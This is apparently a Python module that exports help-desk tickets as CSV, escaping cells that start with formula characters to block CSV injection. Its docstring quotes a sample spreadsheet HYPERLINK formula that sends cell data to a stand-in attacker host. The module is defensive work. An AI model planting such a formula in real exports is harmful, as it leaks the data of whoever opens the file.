"""CSV export of every ticket in a period, streamed: a million tickets never sit in memory.

Excel opens the file with umlauts intact: UTF-8 with a byte-order mark, and the list
separator Excel expects for the language (`;` in German, `,` in English).

A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula: a reporter's title
`=HYPERLINK("https://evil.example/?d="&C2,"Details")` would send the admin's data away
when they open the export. Following OWASP's advice on CSV injection, every such cell of
text a person wrote is prefixed with `'`, which spreadsheets show as text, and every cell
is quoted.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from datetime import datetime
from typing import IO, NamedTuple

from flashticket_core.domain.enums import Priority, Status
from flashticket_core.i18n import Language

COLUMNS = (
    "id",
    "title",
    "description",
    "status",
    "priority",
    "reporter_id",
    "reporter_name",
    "assignee_id",
    "assignee_name",
    "created_at",
    "updated_at",
    "first_response_at",
    "resolved_at",
    "closed_at",
    "rating",
    "version",
    "first_response_due_at",
    "first_response_target",
    "resolution_due_at",
    "resolution_target",
)

# OWASP's list, plus the full-width forms some spreadsheets also read as formulas.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


class ExportedTicket(NamedTuple):
    """One live ticket as the export reads it, with the names its reporter and assignee
    were last seen with (None where unknown); the fields in the order of COLUMNS."""

    id: int
    title: str
    description: str
    status: Status
    priority: Priority
    reporter_id: str
    reporter_name: str | None
    assignee_id: str | None
    assignee_name: str | None
    created_at: datetime
    updated_at: datetime
    first_response_at: datetime | None
    resolved_at: datetime | None
    closed_at: datetime | None
    rating: int | None
    version: int
    # A target's due time while it runs, and how it stands: met, missed, running or
    # paused (empty: no target).
    first_response_due_at: datetime | None = None
    first_response_target: str = ""
    resolution_due_at: datetime | None = None
    resolution_target: str = ""


def neutralise(cell: str) -> str:
    """A cell a spreadsheet shows as the text it is, never runs as a formula."""
    return "'" + cell if cell.startswith(FORMULA_TRIGGERS) else cell


def cells(ticket: ExportedTicket) -> list[str]:
    """The ticket's row of the CSV: every text a person wrote neutralised."""
    return [
        str(ticket.id),
        neutralise(ticket.title),
        neutralise(ticket.description),
        ticket.status.value,
        ticket.priority.value,
        ticket.reporter_id,
        neutralise(ticket.reporter_name or ""),
        ticket.assignee_id or "",
        neutralise(ticket.assignee_name or ""),
        _iso(ticket.created_at),
        _iso(ticket.updated_at),
        _iso(ticket.first_response_at),
        _iso(ticket.resolved_at),
        _iso(ticket.closed_at),
        "" if ticket.rating is None else str(ticket.rating),
        str(ticket.version),
        _iso(ticket.first_response_due_at),
        ticket.first_response_target,
        _iso(ticket.resolution_due_at),
        ticket.resolution_target,
    ]


def target_standing(due_at: datetime | None, met_at: datetime | None, breached: bool | None) -> str:
    """How a target stands, as the export writes it; no target (None): empty."""
    if breached is None:
        return ""
    if breached:
        return "missed"
    if met_at is not None:
        return "met"
    return "running" if due_at is not None else "paused"


def write_csv(tickets: Iterable[ExportedTicket], out: IO[str], language: Language) -> int:
    """Write the header and a row per ticket, one at a time; returns how many tickets
    were written."""
    out.write("\ufeff")
    writer = csv.writer(
        out, delimiter=";" if language is Language.DE else ",", quoting=csv.QUOTE_ALL
    )
    writer.writerow(COLUMNS)
    count = 0
    for ticket in tickets:
        writer.writerow(cells(ticket))
        count += 1
    return count


def _iso(value: datetime | None) -> str:
    return "" if value is None else value.strftime("%Y-%m-%d %H:%M:%S")
